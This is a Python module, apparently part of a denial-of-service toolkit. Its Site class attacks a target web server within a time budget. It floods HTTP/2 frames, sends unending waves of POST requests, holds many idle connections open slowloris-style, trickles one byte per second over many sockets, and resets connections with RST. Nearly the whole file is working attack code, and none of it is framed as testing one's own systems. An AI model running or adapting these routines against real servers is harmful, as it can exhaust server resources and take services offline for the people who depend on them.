"""What an attack is given: where the target listens, for how long it may go on, how many connections it may open."""
import collections
import itertools
import select
import socket
import ssl
import struct
import time

import http2


class Site:
    def __init__(self, the_target, seconds, max_connections):
        self.target = the_target
        self.http2, self.tls, self.http1 = the_target.http2, the_target.tls, the_target.http1
        self.until = time.monotonic() + seconds
        self.max_connections = max_connections
        self.seen = collections.Counter()  # what the server did, as often as it was seen

    def is_over(self):
        return time.monotonic() >= self.until

    def most(self, wanted):
        return min(wanted, self.max_connections)

    def pause(self, seconds):
        time.sleep(max(0.0, min(seconds, self.until - time.monotonic())))

    def rest(self):
        self.pause(3600)

    def open(self, *first_settings):
        return http2.Connection(self.http2, self.seen, first_settings)

    def each_connection(self, talk, *first_settings):
        """talk(connection) again and again, each time on a new connection; it returns, or the server ends it."""
        while not self.is_over():
            try:
                connection = self.open(*first_settings)
            except (OSError, http2.Ended):
                self.seen["not accepted"] += 1
                self.pause(0.01)
                continue
            try:
                talk(connection)
                connection.close()
            except http2.Ended:
                pass

    def flood(self, connection, make, chunk_frames=1000):
        """Sends what make() gives, until it is over or the server ends it. `make` may be octets, or be called for each chunk."""
        octets = make if isinstance(make, bytes) else None
        while not self.is_over():
            connection.send(octets if octets is not None else b"".join(make() for _ in range(chunk_frames)), self.until)

    def waves(self, requests):
        """POSTs of `requests`, which gives (path, body) without end, a hundred at once; the next hundred when all are answered."""
        def talk(connection):
            while not self.is_over():
                wave = [connection.request("POST", path, body) for path, body in itertools.islice(requests, 100)]
                connection.send(b"".join(octets for octets, _ in wave), self.until)
                while not self.is_over() and any(stream not in connection.ended for _, stream in wave):
                    connection.wait(self.until)
                connection.ended.clear()
                connection.statuses.clear()
        self.each_connection(talk)

    def silent(self, address, count, greeting=b""):
        """So many connections that say no more than `greeting`. Those that the server closes are opened again."""
        kept, ready = {}, select.epoll()
        try:
            while not self.is_over():
                begun = time.monotonic()
                while len(kept) < count and not self.is_over() and time.monotonic() - begun < 0.05:
                    self._open_silent(address, greeting, kept, ready)
                for number, _ in ready.poll(0.0 if len(kept) < count else max(0.0, min(0.2, self.until - time.monotonic())), 1000):
                    self._look_at_silent(number, kept, ready)
            self.seen["open at the end"] += len(kept)
        finally:
            for one in kept.values():
                one.close()
            ready.close()

    def _open_silent(self, address, greeting, kept, ready):
        try:
            one = socket.create_connection(address, timeout=2)
            one.send(greeting)
        except OSError as error:
            self.seen["not accepted: " + type(error).__name__] += 1
            self.pause(0.05)
            return
        one.setblocking(False)
        kept[one.fileno()] = one
        ready.register(one, select.EPOLLIN)

    def _look_at_silent(self, number, kept, ready):
        try:
            octets = kept[number].recv(1 << 14)
        except BlockingIOError:
            return
        except OSError:
            octets = b""
        if octets:
            self.seen["answered something"] += 1
            return
        self.seen["closed"] += 1
        ready.unregister(number)
        kept.pop(number).close()

    def drip(self, address, count, first, octets):
        """So many connections that send `first`, then one octet of `octets` a second, round and round. Opened anew when closed."""
        kept, at = [], 0
        try:
            while not self.is_over():
                while len(kept) < count and not self.is_over():
                    try:
                        one = socket.create_connection(address, timeout=2)
                        one.sendall(first)
                        kept.append(one)
                    except OSError as error:
                        self.seen["not accepted: " + type(error).__name__] += 1
                        break
                octet, at = octets[at:at + 1], (at + 1) % len(octets)
                shares = [kept[i::20] for i in range(20)]  # not all of them at one moment
                kept = []
                for share in shares:
                    kept += [one for one in share if self._drop(one, octet)]
                    self.pause(0.05)
            self.seen["open at the end"] += len(kept)
        finally:
            for one in kept:
                one.close()

    def _drop(self, one, octet):
        one.setblocking(False)
        try:
            one.send(octet)
            while True:
                got = one.recv(1 << 14)
                if not got:
                    break
                if got.startswith(b"HTTP/1.1 "):
                    self.seen[got[9:12].decode()] += 1
        except BlockingIOError:
            return True
        except OSError:
            pass
        self.seen["closed"] += 1
        one.close()
        return False


def vanish(one):
    """Closes a socket with a RST."""
    one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    one.close()


def client_hello():
    """The first flight of a TLS client that asks for h2."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()
